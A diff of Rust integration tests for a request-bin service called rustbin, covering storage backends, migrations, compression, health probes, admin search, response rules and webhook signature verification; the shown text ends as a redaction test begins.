@@ -1,16 +1,27 @@
-use axum::{http::StatusCode, extract::connect_info::MockConnectInfo};
+use axum::{http::{Method, StatusCode}, extract::connect_info::MockConnectInfo, middleware};
 use axum_test::TestServer;
 use rustbin::{
-    models::{BinResponse, LoggedRequest},
+    config::{CompressionConfig, PluginModule, RustbinConfig},
+    models::{AdminBinSummary, AdminSearchResult, AdminStats, AdminStorage, BinInfo, BinPause, BinProxy, BinResponse, Callback, CaptureResponse, Forward, ForwardDelivery, LoggedRequest, ProblemDetails, RejectedRequest, ReplayResponse, ResponseRule, ResponseSequence},
+    hooks::Hooks,
     routes,
     state::AppState,
+    storage::{blob::LocalBlobStore, MemoryStorage, SqliteStorage},
 };
 use serde_json::Value;
 use sqlx::sqlite::SqlitePoolOptions;
 use std::net::SocketAddr;
+use std::future::IntoFuture;
+use std::io::Read;
+use std::sync::Arc;
+use tower_http::compression::CompressionLayer;
 use uuid::Uuid;
 
 async fn setup_test_app() -> TestServer {
+    setup_test_app_with_config(RustbinConfig::default()).await
+}
+
+async fn setup_test_app_with_config(config: RustbinConfig) -> TestServer {
     let pool = SqlitePoolOptions::new()
         .max_connections(5)
         .connect(":memory:")
@@ -18,35 +29,45 @@ async fn setup_test_app() -> TestServer {
         .unwrap();
 
     // Create tables
-    sqlx::query("CREATE TABLE bins (id TEXT UNIQUE PRIMARY KEY, last_updated TEXT NOT NULL);")
-        .execute(&pool)
-        .await
-        .unwrap();
+    rustbin::storage::sqlite::MIGRATOR.run(&pool).await.unwrap();
 
-    sqlx::query("CREATE TABLE requests (
-        id INTEGER PRIMARY KEY AUTOINCREMENT,
-        bin_id TEXT,
-        request_id TEXT UNIQUE NOT NULL,
-        method TEXT,
-        headers TEXT,
-        body TEXT,
-        timestamp TEXT
-    );")
-    .execute(&pool)
-    .await
-    .unwrap();
+    test_server(AppState::from_pool(pool, &config))
+}
 
-    let state = AppState {
-        db: pool,
-        bin_channels: std::sync::Arc::new(dashmap::DashMap::new()),
-        limits: rustbin::config::LimitsConfig::default(),
-    };
+/// Same routes, backed by the in-memory store instead of SQLite
+async fn setup_memory_app() -> TestServer {
+    setup_memory_app_with_config(RustbinConfig::default()).await
+}
+
+async fn setup_memory_app_with_config(config: RustbinConfig) -> TestServer {
+    let storage = Arc::new(MemoryStorage::new());
+    test_server(AppState::with_storage(storage, &config))
+}
+
+/// The default configuration, letting bins send to receivers the tests run on loopback
+fn loopback_targets() -> RustbinConfig {
+    let mut config = RustbinConfig::default();
+    config.outbound.allowed_networks = vec!["127.0.0.0/8".to_string()];
+    config
+}
+
+fn test_server(state: AppState) -> TestServer {
+    TestServer::new(test_router(state)).unwrap()
+}
 
+fn test_router(state: AppState) -> axum::Router {
+    let base_path = state.base_path.clone();
     let app = routes::bin::bin_routes(state.clone())
-        .merge(routes::health::health_routes())
-        .merge(routes::bin::websocket_routes(state))
-        .layer(MockConnectInfo(SocketAddr::from(([127, 0, 0, 1], 8080))));
-    TestServer::new(app).unwrap()
+        .merge(routes::health::health_routes(state.clone()))
+        .merge(routes::docs::docs_routes(&base_path))
+        .merge(routes::admin::admin_routes(state.clone()))
+        .merge(routes::graphql::graphql_routes(state.clone()))
+        .merge(routes::ui::ui_routes(&base_path))
+        .layer(CompressionLayer::new())
+        .merge(routes::bin::capture_routes(state.clone()))
+        .layer(middleware::from_fn_with_state(state.clone(), routes::body_limit::limit_request_body))
+        .merge(routes::bin::websocket_routes(state));
+    routes::under_base_path(&base_path, app).layer(MockConnectInfo(SocketAddr::from(([127, 0, 0, 1], 8080))))
 }
 
 #[tokio::test]
@@ -79,7 +100,7 @@ async fn test_full_workflow() {
 
     // Step 4: Delete the request
     let request_id = requests[0].request_id.to_string();
-    let response = server.delete(&format!("/request/{}", request_id)).await;
+    let response = server.delete(&format!("/bin/{}/request/{}", bin_id, request_id)).await;
     response.assert_status_ok();
 
     // Step 5: Verify request is gone
@@ -91,6 +112,256 @@ async fn test_full_workflow() {
     // Step 6: Delete the bin
     let response = server.delete(&format!("/delete/{}", bin_id)).await;
     response.assert_status_ok();
+
+    // Step 7: The cached existence check doesn't outlive the delete
+    let response = server.post(&format!("/bin/{}", bin_id)).text("late").await;
+    response.assert_status(StatusCode::NOT_FOUND);
+}
+
+#[tokio::test]
+async fn test_memory_backend_workflow() {
+    let server = setup_memory_app().await;
+
+    let bin: BinResponse = server.post("/create").json(&serde_json::json!({ "name": "ephemeral" })).await.json();
+    server
+        .post(&format!("/bin/{}/orders", bin.bin_id))
+        .add_header("x-event", "order.paid")
+        .text(r#"{"order_id": "ORD-1042", "status": "paid"}"#)
+        .await
+        .assert_status_ok();
+    server.get(&format!("/bin/{}?page=2", bin.bin_id)).await.assert_status_ok();
+
+    let response = server.get(&format!("/bin/{}/inspect?method=post&header=X-Event:order.paid", bin.bin_id)).await;
+    response.assert_status_ok();
+    assert_eq!(response.header("x-total-count"), "1");
+    let requests: Vec<LoggedRequest> = response.json();
+    assert_eq!(requests[0].path.as_deref(), Some("/orders"));
+
+    let results: Vec<LoggedRequest> = server.get(&format!("/bin/{}/search?q=ord-1042%20paid", bin.bin_id)).await.json();
+    assert_eq!(results.len(), 1);
+
+    let export = server.get(&format!("/bin/{}/export?format=ndjson", bin.bin_id)).await.text();
+    assert_eq!(export.lines().count(), 2);
+
+    let info: BinInfo = server.get(&format!("/bin/{}/meta", bin.bin_id)).await.json();
+    assert_eq!(info.name.as_deref(), Some("ephemeral"));
+
+    // Private bins are guarded the same way
+    let private: BinResponse = server.post("/create").json(&serde_json::json!({ "private": true })).await.json();
+    server.get(&format!("/bin/{}/inspect", private.bin_id)).await.assert_status(StatusCode::UNAUTHORIZED);
+    server
+        .get(&format!("/bin/{}/inspect?token={}", private.bin_id, private.token.unwrap()))
+        .await
+        .assert_status_ok();
+
+    let response = server.delete(&format!("/bin/{}/clear", bin.bin_id)).await;
+    assert_eq!(response.text(), "Cleared 2 requests from bin");
+    server.delete(&format!("/delete/{}", bin.bin_id)).await.assert_status_ok();
+    server.get(&format!("/bin/{}/inspect", bin.bin_id)).await.assert_status(StatusCode::NOT_FOUND);
+}
+
+#[tokio::test]
+async fn test_startup_creates_and_migrates_database() {
+    let dir = tempfile::tempdir().unwrap();
+    let mut config = RustbinConfig::default();
+    config.database.url = format!("sqlite://{}", dir.path().join("rustbin.db").display());
+
+    // The database file doesn't exist yet; migrations create the schema
+    let state = AppState::new(&config).await.unwrap();
+    let server = test_server(state);
+    let bin: BinResponse = server.post("/create").await.json();
+    server.post(&format!("/bin/{}", bin.bin_id)).text("hello").await.assert_status_ok();
+
+    // Starting again against the same file is a no-op
+    let state = AppState::new(&config).await.unwrap();
+    let requests: Vec<LoggedRequest> = test_server(state).get(&format!("/bin/{}/inspect", bin.bin_id)).await.json();
+    assert_eq!(requests.len(), 1);
+}
+
+#[tokio::test]
+async fn test_migrations_upgrade_the_original_schema() {
+    // What the hand-applied schema.sql created before migrations existed
+    let pool = SqlitePoolOptions::new().max_connections(1).connect(":memory:").await.unwrap();
+    sqlx::raw_sql(
+        "CREATE TABLE bins (id TEXT UNIQUE PRIMARY KEY, last_updated TEXT);
+         CREATE TABLE requests (
+             id INTEGER PRIMARY KEY AUTOINCREMENT, request_id TEXT UNIQUE NOT NULL, bin_id TEXT NOT NULL,
+             method TEXT NOT NULL, headers TEXT NOT NULL, body TEXT, timestamp TEXT NOT NULL,
+             FOREIGN KEY (bin_id) REFERENCES bins(id) ON DELETE CASCADE
+         );
+         INSERT INTO bins (id, last_updated) VALUES ('6c0b6f1e-9a4f-4a43-9d7e-3c2a1f0e5b7d', '2024-01-01T00:00:00Z');
+         INSERT INTO requests (request_id, bin_id, method, headers, body, timestamp)
+         VALUES (X'0f8e4a2c1b3d4e5f8a7b9c0d1e2f3a4b', '6c0b6f1e-9a4f-4a43-9d7e-3c2a1f0e5b7d', 'POST', '{}', 'old', '2024-01-01T00:00:00Z');",
+    )
+    .execute(&pool)
+    .await
+    .unwrap();
+    rustbin::storage::sqlite::MIGRATOR.run(&pool).await.unwrap();
+
+    let server = test_server(AppState::from_pool(pool, &RustbinConfig::default()));
+    let old_bin = "/bin/6c0b6f1e-9a4f-4a43-9d7e-3c2a1f0e5b7d";
+    server.post(&format!("{}/stripe?page=2", old_bin)).text("new").await.assert_status_ok();
+    let requests: Vec<LoggedRequest> = server.get(&format!("{}/inspect", old_bin)).await.json();
+    let bodies: Vec<_> = requests.iter().map(|request| request.body.as_deref()).collect();
+    assert_eq!(bodies, [Some("old"), Some("new")]);
+    assert_eq!(requests[1].path.as_deref(), Some("/stripe"));
+
+    let bin: BinResponse = server.post("/create").json(&serde_json::json!({ "name": "fresh", "private": true })).await.json();
+    assert!(bin.token.is_some());
+}
+
+#[tokio::test]
+async fn test_concurrent_captures_on_file_database() {
+    let dir = tempfile::tempdir().unwrap();
+    let mut config = RustbinConfig::default();
+    config.database.url = format!("sqlite://{}", dir.path().join("rustbin.db").display());
+    let state = AppState::new(&config).await.unwrap();
+
+    // WAL is recorded in the database file, so a fresh connection sees it too
+    let pool = SqlitePoolOptions::new().connect(&config.database.url).await.unwrap();
+    let mode: String = sqlx::query_scalar("PRAGMA journal_mode").fetch_one(&pool).await.unwrap();
+    assert_eq!(mode, "wal");
+
+    let server = test_server(state);
+    let bin: BinResponse = server.post("/create").await.json();
+    let path = format!("/bin/{}", bin.bin_id);
+    let captures = (0..40).map(|i| server.post(&path).text(format!("burst {}", i)).into_future());
+    for response in futures::future::join_all(captures).await {
+        response.assert_status_ok();
+    }
+
+    let requests: Vec<LoggedRequest> = server.get(&format!("/bin/{}/inspect?limit=100", bin.bin_id)).await.json();
+    assert_eq!(requests.len(), 40);
+}
+
+#[tokio::test]
+async fn test_large_bodies_are_offloaded_to_blob_store() {
+    let pool = SqlitePoolOptions::new().connect(":memory:").await.unwrap();
+    rustbin::storage::sqlite::MIGRATOR.run(&pool).await.unwrap();
+    let dir = tempfile::tempdir().unwrap();
+    let storage = SqliteStorage::new(pool.clone()).with_blobs(Arc::new(LocalBlobStore::new(dir.path())), 16);
+    let server = test_server(AppState::with_storage(Arc::new(storage), &RustbinConfig::default()));
+
+    let bin: BinResponse = server.post("/create").await.json();
+    let large = format!(r#"{{"payload": "{}"}}"#, "x".repeat(100));
+    server.post(&format!("/bin/{}", bin.bin_id)).text(large.clone()).await.assert_status_ok();
+    server.post(&format!("/bin/{}", bin.bin_id)).text("small").await.assert_status_ok();
+
+    // Only the large body left the database
+    let offloaded: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM requests WHERE body IS NULL AND body_ref IS NOT NULL")
+        .fetch_one(&pool)
+        .await
+        .unwrap();
+    assert_eq!(offloaded, 1);
+    assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 1);
+
+    // ...but reads don't notice
+    let requests: Vec<LoggedRequest> = server.get(&format!("/bin/{}/inspect", bin.bin_id)).await.json();
+    assert_eq!(requests[0].body.as_deref(), Some(large.as_str()));
+    assert_eq!(requests[1].body.as_deref(), Some("small"));
+    let raw = server.get(&format!("/bin/{}/request/{}/body", bin.bin_id, requests[0].request_id)).await;
+    assert_eq!(raw.text(), large);
+    let export = server.get(&format!("/bin/{}/export?format=ndjson", bin.bin_id)).await.text();
+    assert!(export.contains(&"x".repeat(100)));
+
+    server.delete(&format!("/bin/{}/clear", bin.bin_id)).await.assert_status_ok();
+    assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 0);
+}
+
+#[tokio::test]
+async fn test_large_bodies_are_compressed_at_rest() {
+    let pool = SqlitePoolOptions::new().connect(":memory:").await.unwrap();
+    rustbin::storage::sqlite::MIGRATOR.run(&pool).await.unwrap();
+    let config = RustbinConfig {
+        compression: CompressionConfig { enabled: true, level: 3, min_bytes: 64 },
+        ..Default::default()
+    };
+    let server = test_server(AppState::from_pool(pool.clone(), &config));
+
+    let bin: BinResponse = server.post("/create").await.json();
+    let large = format!(r#"{{"items": [{}]}}"#, vec![r#"{"name": "widget"}"#; 50].join(", "));
+    server.post(&format!("/bin/{}", bin.bin_id)).text(large.clone()).await.assert_status_ok();
+    server.post(&format!("/bin/{}", bin.bin_id)).text("small widget").await.assert_status_ok();
+
+    let (compressed, stored_bytes): (i64, i64) = sqlx::query_as(
+        "SELECT COUNT(*), COALESCE(SUM(length(body)), 0) FROM requests WHERE body_compression = 'zstd'"
+    )
+    .fetch_one(&pool)
+    .await
+    .unwrap();
+    assert_eq!(compressed, 1);
+    assert!((stored_bytes as usize) < large.len());
+
+    let requests: Vec<LoggedRequest> = server.get(&format!("/bin/{}/inspect", bin.bin_id)).await.json();
+    assert_eq!(requests[0].body.as_deref(), Some(large.as_str()));
+    assert_eq!(requests[1].body.as_deref(), Some("small widget"));
+    let export = server.get(&format!("/bin/{}/export?format=ndjson", bin.bin_id)).await.text();
+    assert!(export.contains("widget"));
+
+    // Compressed bodies are searched as they were captured
+    let found: Vec<LoggedRequest> = server.get(&format!("/bin/{}/search?q=widget", bin.bin_id)).await.json();
+    let bodies: Vec<_> = found.iter().filter_map(|request| request.body.as_deref()).collect();
+    assert_eq!(bodies, ["small widget", large.as_str()]);
+}
+
+#[tokio::test]
+async fn test_request_counter_tracks_captures_and_deletes() {
+    let pool = SqlitePoolOptions::new().connect(":memory:").await.unwrap();
+    rustbin::storage::sqlite::MIGRATOR.run(&pool).await.unwrap();
+    let mut config = RustbinConfig::default();
+    config.limits.max_requests_per_bin = 3;
+    let server = test_server(AppState::from_pool(pool.clone(), &config));
+
+    let bin: BinResponse = server.post("/create").await.json();
+    for i in 0..5 {
+        server.post(&format!("/bin/{}", bin.bin_id)).text(format!("request {}", i)).await.assert_status_ok();
+    }
+    async fn counted(pool: &sqlx::SqlitePool, bin_id: &str) -> i64 {
+        sqlx::query_scalar("SELECT request_count FROM bins WHERE id = ?")
+            .bind(bin_id)
+            .fetch_one(pool)
+            .await
+            .unwrap()
+    }
+    assert_eq!(counted(&pool, &bin.bin_id).await, 3);
+
+    let requests: Vec<LoggedRequest> = server.get(&format!("/bin/{}/inspect", bin.bin_id)).await.json();
+    let bodies: Vec<_> = requests.iter().filter_map(|r| r.body.as_deref()).collect();
+    assert_eq!(bodies, ["request 2", "request 3", "request 4"]);
+
+    server.delete(&format!("/request/{}", requests[0].request_id)).await.assert_status_ok();
+    assert_eq!(counted(&pool, &bin.bin_id).await, 2);
+    server.delete(&format!("/bin/{}/clear", bin.bin_id)).await.assert_status_ok();
+    assert_eq!(counted(&pool, &bin.bin_id).await, 0);
+}
+
+#[tokio::test]
+async fn test_async_writes_queue_captures() {
+    let mut config = RustbinConfig::default();
+    config.limits.async_writes = true;
+    config.limits.write_batch_size = 4;
+    config.limits.write_flush_interval_ms = 10;
+    let server = setup_test_app_with_config(config).await;
+
+    let bin: BinResponse = server.post("/create").await.json();
+    for i in 0..10 {
+        let response = server.post(&format!("/bin/{}", bin.bin_id)).text(format!("queued {}", i)).await;
+        response.assert_status(StatusCode::ACCEPTED);
+        // Not counted until the writer gets to it
+        assert!(response.maybe_header("x-rustbin-request-count").is_none());
+    }
+
+    // The writer flushes in the background; wait for it to catch up
+    let mut requests = Vec::new();
+    for _ in 0..100 {
+        requests = server.get(&format!("/bin/{}/inspect", bin.bin_id)).await.json::<Vec<LoggedRequest>>();
+        if requests.len() == 10 {
+            break;
+        }
+        tokio::time::sleep(std::time::Duration::from_millis(10)).await;
+    }
+    let bodies: Vec<_> = requests.iter().filter_map(|r| r.body.clone()).collect();
+    assert_eq!(bodies, (0..10).map(|i| format!("queued {}", i)).collect::<Vec<_>>());
 }
 
 #[tokio::test]
@@ -250,7 +521,7 @@ async fn test_unicode_and_special_characters() {
     let bin_id = bin_response.bin_id;
 
     // Test with various special characters and encodings
-    let test_cases = vec![
+    let test_cases = [
         "Hello, 世界!",  // Unicode
         "🚀 Emoji test 🎉",  // Emojis
         "Special chars: <>&\"'",  // HTML special chars
@@ -299,6 +570,48 @@ async fn test_ping_endpoint() {
     assert_eq!(ping_response["message"], "pong");
 }
 
+#[tokio::test]
+async fn test_health_and_readiness_probes() {
+    let server = setup_test_app().await;
+    let response = server.get("/healthz").await;
+    response.assert_status_ok();
+    assert_eq!(response.json::<Value>()["status"], "ok");
+
+    let response = server.get("/readyz").await;
+    response.assert_status_ok();
+    let readiness: Value = response.json();
+    assert_eq!(readiness["ready"], true);
+    assert_eq!(readiness["checks"]["database"]["status"], "ok");
+    assert_eq!(readiness["checks"]["database"]["details"]["pool_max_connections"], 5);
+    assert_eq!(readiness["checks"]["writer_queue"]["status"], "disabled");
+    // The cleanup task isn't started in tests
+    assert_eq!(readiness["checks"]["cleanup_task"]["status"], "disabled");
+
+    let mut config = RustbinConfig::default();
+    config.limits.async_writes = true;
+    let readiness: Value = setup_test_app_with_config(config).await.get("/readyz").await.json();
+    assert_eq!(readiness["checks"]["writer_queue"]["status"], "ok");
+    assert_eq!(readiness["checks"]["writer_queue"]["details"]["depth"], 0);
+}
+
+#[tokio::test]
+async fn test_readiness_fails_without_database() {
+    let pool = SqlitePoolOptions::new().max_connections(1).connect(":memory:").await.unwrap();
+    rustbin::storage::sqlite::MIGRATOR.run(&pool).await.unwrap();
+    let server = test_server(AppState::from_pool(pool.clone(), &RustbinConfig::default()));
+    pool.close().await;
+
+    let response = server.get("/readyz").await;
+    response.assert_status(StatusCode::SERVICE_UNAVAILABLE);
+    let readiness: Value = response.json();
+    assert_eq!(readiness["ready"], false);
+    assert_eq!(readiness["checks"]["database"]["status"], "down");
+    assert!(readiness["checks"]["database"]["error"].is_string());
+
+    // Liveness doesn't depend on the database
+    server.get("/healthz").await.assert_status_ok();
+}
+
 #[tokio::test]
 async fn test_headers_processing() {
     let server = setup_test_app().await;
@@ -327,15 +640,2837 @@ async fn test_headers_processing() {
     assert_eq!(requests.len(), 1);
 
     let headers_json = &requests[0].headers;
-    let headers: serde_json::Value = serde_json::from_str(headers_json).unwrap();
+    let headers: Vec<(String, String)> = serde_json::from_str(headers_json).unwrap();
     
     // Check that important headers are present (keys may vary in case)
-    let headers_map = headers.as_object().unwrap();
-    let has_content_type = headers_map.keys().any(|k| k.to_lowercase() == "content-type");
-    let has_user_agent = headers_map.keys().any(|k| k.to_lowercase() == "user-agent");
-    let has_custom = headers_map.keys().any(|k| k.to_lowercase() == "x-custom");
+    let has_content_type = headers.iter().any(|(k, _)| k.to_lowercase() == "content-type");
+    let has_user_agent = headers.iter().any(|(k, _)| k.to_lowercase() == "user-agent");
+    let has_custom = headers.iter().any(|(k, _)| k.to_lowercase() == "x-custom");
     
     assert!(has_content_type);
     assert!(has_user_agent);
     assert!(has_custom);
-}
\ No newline at end of file
+}
+
+#[tokio::test]
+async fn test_admin_search_across_bins() {
+    let mut config = RustbinConfig::default();
+    config.admin.token = Some("admin-secret".to_string());
+    let server = setup_test_app_with_config(config).await;
+
+    // Create two bins and send traffic to both
+    let mut bin_ids = Vec::new();
+    for _ in 0..2 {
+        let response = server.post("/create").await;
+        let bin_response: BinResponse = response.json();
+        bin_ids.push(bin_response.bin_id);
+    }
+    server.post(&format!("/bin/{}", bin_ids[0])).text(r#"{"order_id": "ord_42"}"#).await.assert_status_ok();
+    server.post(&format!("/bin/{}", bin_ids[1])).text(r#"{"order_id": "ord_7"}"#).await.assert_status_ok();
+    server
+        .post(&format!("/bin/{}", bin_ids[1]))
+        .add_header("x-source", "ord_42-sender")
+        .text("unrelated")
+        .await
+        .assert_status_ok();
+
+    // Missing or wrong token is rejected
+    server.get("/admin/search?q=ord_42").await.assert_status(StatusCode::UNAUTHORIZED);
+    server
+        .get("/admin/search?q=ord_42")
+        .add_header("authorization", "Bearer wrong")
+        .await
+        .assert_status(StatusCode::UNAUTHORIZED);
+
+    // Matches bodies and headers across bins, newest first
+    let response = server
+        .get("/admin/search?q=ord_42")
+        .add_header("authorization", "Bearer admin-secret")
+        .await;
+    response.assert_status_ok();
+    let results: Vec<AdminSearchResult> = response.json();
+    assert_eq!(results.len(), 2);
+    assert_eq!(results[0].bin_id, bin_ids[1]);
+    assert_eq!(results[1].bin_id, bin_ids[0]);
+
+    // Result count is bounded
+    let response = server
+        .get("/admin/search?q=ord_&limit=1")
+        .add_header("authorization", "Bearer admin-secret")
+        .await;
+    let results: Vec<AdminSearchResult> = response.json();
+    assert_eq!(results.len(), 1);
+
+    // Time range excludes everything in the past
+    let response = server
+        .get("/admin/search?q=ord_42&until=2000-01-01T00:00:00Z")
+        .add_header("authorization", "Bearer admin-secret")
+        .await;
+    let results: Vec<AdminSearchResult> = response.json();
+    assert!(results.is_empty());
+}
+
+#[tokio::test]
+async fn test_bin_full_text_search() {
+    let server = setup_test_app().await;
+
+    let response = server.post("/create").await;
+    let bin_response: BinResponse = response.json();
+    let bin_id = bin_response.bin_id;
+
+    server.post(&format!("/bin/{}", bin_id)).text(r#"{"order_id": "ORD-1042", "status": "paid"}"#).await.assert_status_ok();
+    server.post(&format!("/bin/{}", bin_id)).text(r#"{"order_id": "ORD-2077", "status": "paid"}"#).await.assert_status_ok();
+    server.post(&format!("/bin/{}", bin_id)).text("status=refunded&order=ORD-1042").await.assert_status_ok();
+
+    // Terms are matched case-insensitively and punctuation inside IDs is not FTS syntax
+    let response = server.get(&format!("/bin/{}/search?q=ord-1042", bin_id)).await;
+    response.assert_status_ok();
+    let results: Vec<LoggedRequest> = response.json();
+    assert_eq!(results.len(), 2);
+    assert!(results[0].body.as_deref().unwrap().contains("refunded"));
+
+    // Every term has to match
+    let response = server.get(&format!("/bin/{}/search?q=ORD-1042%20paid", bin_id)).await;
+    let results: Vec<LoggedRequest> = response.json();
+    assert_eq!(results.len(), 1);
+
+    server.get(&format!("/bin/{}/search?q=%20", bin_id)).await.assert_status(StatusCode::BAD_REQUEST);
+
+    // The index follows deletions
+    server.delete(&format!("/bin/{}/clear", bin_id)).await.assert_status_ok();
+    let response = server.get(&format!("/bin/{}/search?q=paid", bin_id)).await;
+    let results: Vec<LoggedRequest> = response.json();
+    assert!(results.is_empty());
+}
+
+#[tokio::test]
+async fn test_templated_custom_response() {
+    let server = setup_test_app().await;
+
+    let response = server.post("/create").await;
+    let bin_response: BinResponse = response.json();
+    let bin_id = bin_response.bin_id;
+
+    // No custom response yet
+    server.get(&format!("/bin/{}/response", bin_id)).await.assert_status(StatusCode::NOT_FOUND);
+
+    server
+        .put(&format!("/bin/{}/response", bin_id))
+        .json(&serde_json::json!({
+            "status": 201,
+            "headers": { "x-echo-id": "{{headers.x-request-id}}" },
+            "body": r#"{"method": "{{method}}", "order": {{body.json.order_id}}, "page": "{{query.page}}"}"#
+        }))
+        .await
+        .assert_status_ok();
+
+    let response = server
+        .post(&format!("/bin/{}/orders?page=2", bin_id))
+        .add_header("x-request-id", "req-77")
+        .json(&serde_json::json!({ "order_id": 1042 }))
+        .await;
+    response.assert_status(StatusCode::CREATED);
+    assert_eq!(response.header("x-echo-id"), "req-77");
+    assert!(response.maybe_header("x-rustbin-request-id").is_some());
+    assert_eq!(response.text(), r#"{"method": "POST", "order": 1042, "page": "2"}"#);
+
+    // Broken templates and statuses are rejected up front
+    server
+        .put(&format!("/bin/{}/response", bin_id))
+        .json(&serde_json::json!({ "body": "{{#if method}}" }))
+        .await
+        .assert_status(StatusCode::BAD_REQUEST);
+    server
+        .put(&format!("/bin/{}/response", bin_id))
+        .json(&serde_json::json!({ "status": 42 }))
+        .await
+        .assert_status(StatusCode::BAD_REQUEST);
+
+    // Removing it restores the default answer, which names the stored request
+    server.delete(&format!("/bin/{}/response", bin_id)).await.assert_status_ok();
+    let response = server.post(&format!("/bin/{}", bin_id)).text("hi").await;
+    response.assert_status_ok();
+    let captured: CaptureResponse = response.json();
+    assert_eq!(captured.bin_id, bin_id);
+    assert_eq!(response.header("x-rustbin-request-id"), captured.request_id.to_string());
+    let requests: Vec<LoggedRequest> = server.get(&format!("/bin/{}/inspect", bin_id)).await.json();
+    let stored = requests.last().unwrap();
+    assert_eq!((stored.request_id, &stored.timestamp), (captured.request_id, &captured.timestamp));
+}
+
+#[tokio::test]
+async fn test_response_rules() {
+    for server in [setup_test_app().await, setup_memory_app().await] {
+        let bin: BinResponse = server.post("/create").await.json();
+        let rules_path = format!("/bin/{}/rules", bin.bin_id);
+
+        let response = server
+            .post(&rules_path)
+            .json(&serde_json::json!({
+                "method": "post",
+                "path": "/orders/*",
+                "response": { "status": 201, "body": "created {{body.json.order_id}}" }
+            }))
+            .await;
+        response.assert_status(StatusCode::CREATED);
+        let created: ResponseRule = response.json();
+        assert_eq!(created.method.as_deref(), Some("POST"));
+        server
+            .post(&rules_path)
+            .json(&serde_json::json!({ "response": { "status": 404, "body": "no such route" } }))
+            .await
+            .assert_status(StatusCode::CREATED);
+        server
+            .post(&rules_path)
+            .json(&serde_json::json!({ "path": "orders", "response": {} }))
+            .await
+            .assert_status(StatusCode::BAD_REQUEST);
+
+        let response = server
+            .post(&format!("/bin/{}/orders/7", bin.bin_id))
+            .json(&serde_json::json!({ "order_id": 7 }))
+            .await;
+        response.assert_status(StatusCode::CREATED);
+        assert_eq!(response.text(), "created 7");
+        let response = server.get(&format!("/bin/{}/orders/7", bin.bin_id)).await;
+        response.assert_status(StatusCode::NOT_FOUND);
+        assert_eq!(response.text(), "no such route");
+
+        // Replacing a rule keeps its place; deleting the catch-all restores the default answer
+        let response = server
+            .put(&format!("{}/{}", rules_path, created.rule_id))
+            .json(&serde_json::json!({ "path": "/orders/*", "response": { "status": 202 } }))
+            .await;
+        response.assert_status_ok();
+        server.get(&format!("/bin/{}/orders/7", bin.bin_id)).await.assert_status(StatusCode::ACCEPTED);
+        let rules: Vec<ResponseRule> = server.get(&rules_path).await.json();
+        assert_eq!(rules.len(), 2);
+        assert_eq!(rules[0].rule_id, created.rule_id);
+        server.delete(&format!("{}/{}", rules_path, rules[1].rule_id)).await.assert_status_ok();
+        let response = server.post(&format!("/bin/{}", bin.bin_id)).text("hi").await;
+        response.assert_status_ok();
+        assert_eq!(response.json::<CaptureResponse>().bin_id, bin.bin_id);
+
+        // PUT on the collection replaces every rule in the order given
+        let response = server
+            .put(&rules_path)
+            .json(&serde_json::json!([
+                { "path": "/health", "response": { "status": 200, "body": "ok" } },
+                { "response": { "status": 503 } }
+            ]))
+            .await;
+        response.assert_status_ok();
+        let rules: Vec<ResponseRule> = response.json();
+        assert_eq!(rules.len(), 2);
+        assert_ne!(rules[0].rule_id, created.rule_id);
+        assert_eq!(server.get(&format!("/bin/{}/health", bin.bin_id)).await.text(), "ok");
+        server.get(&format!("/bin/{}", bin.bin_id)).await.assert_status(StatusCode::SERVICE_UNAVAILABLE);
+        server
+            .delete(&format!("{}/{}", rules_path, created.rule_id))
+            .await
+            .assert_status(StatusCode::NOT_FOUND);
+    }
+}
+
+#[tokio::test]
+async fn test_signature_verification() {
+    let server = setup_test_app().await;
+    let bin_id = server.post("/create").await.json::<BinResponse>().bin_id;
+
+    server
+        .put(&format!("/bin/{}/signature", bin_id))
+        .json(&serde_json::json!({ "provider": "github", "secret": "s", "header": "X-Sig" }))
+        .await
+        .assert_status(StatusCode::BAD_REQUEST);
+    server
+        .put(&format!("/bin/{}/signature", bin_id))
+        .json(&serde_json::json!({ "provider": "github", "secret": "" }))
+        .await
+        .assert_status(StatusCode::BAD_REQUEST);
+
+    // Secret and signature from GitHub's webhook validation guide
+    let response = server
+        .put(&format!("/bin/{}/signature", bin_id))
+        .json(&serde_json::json!({ "provider": "github", "secret": "It's a Secret to Everybody" }))
+        .await;
+    response.assert_status_ok();
+    let stored: Value = response.json();
+    assert_eq!(stored["provider"], "github");
+    assert!(stored.get("secret").is_none());
+    let fetched: Value = server.get(&format!("/bin/{}/signature", bin_id)).await.json();
+    assert_eq!(fetched, stored);
+
+    let signature = "sha256=757107ea0eb2509fc211221cce984b8a37570b6d7586c22c46f4379c8b043e17";
+    server.post(&format!("/bin/{}", bin_id)).add_header("x-hub-signature-256", signature).text("Hello, World!").await.assert_status_ok();
+    server.post(&format!("/bin/{}", bin_id)).add_header("x-hub-signature-256", signature).text("Hello, World?").await.assert_status_ok();
+
+    server.delete(&format!("/bin/{}/signature", bin_id)).await.assert_status_ok();
+    server.get(&format!("/bin/{}/signature", bin_id)).await.assert_status_not_found();
+    server.post(&format!("/bin/{}", bin_id)).text("unchecked").await.assert_status_ok();
+
+    let requests: Vec<LoggedRequest> = server.get(&format!("/bin/{}/inspect", bin_id)).await.json();
+    let outcomes: Vec<Option<bool>> = requests.iter().map(|request| request.signature_valid).collect();
+    assert_eq!(outcomes, [Some(true), Some(false), None]);
+}
+
+#[tokio::test]
+async fn test_signature_verification_with_queued_writes() {
+    let mut config = RustbinConfig::default();
+    config.limits.async_writes = true;
+    config.limits.write_flush_interval_ms = 10;
+    let server = setup_test_app_with_config(config).await;
+    let bin_id = server.post("/create").await.json::<BinResponse>().bin_id;
+    server
+        .put(&format!("/bin/{}/signature", bin_id))
+        .json(&serde_json::json!({ "provider": "github", "secret": "It's a Secret to Everybody" }))
+        .await
+        .assert_status_ok();
+
+    let signature = "sha256=757107ea0eb2509fc211221cce984b8a37570b6d7586c22c46f4379c8b043e17";
+    for body in ["Hello, World!", "Hello, World?"] {
+        server.post(&format!("/bin/{}", bin_id)).add_header("x-hub-signature-256", signature).text(body).await.assert_status(StatusCode::ACCEPTED);
+    }
+
+    let mut requests = Vec::new();
+    for _ in 0..100 {
+        requests = server.get(&format!("/bin/{}/inspect", bin_id)).await.json::<Vec<LoggedRequest>>();
+        if requests.len() == 2 {
+            break;
+        }
+        tokio::time::sleep(std::time::Duration::from_millis(10)).await;
+    }
+    let outcomes: Vec<Option<bool>> = requests.iter().map(|request| request.signature_valid).collect();
+    assert_eq!(outcomes, [Some(true), Some(false)]);
+}
+
+#[tokio::test]
+async fn test_redaction() {
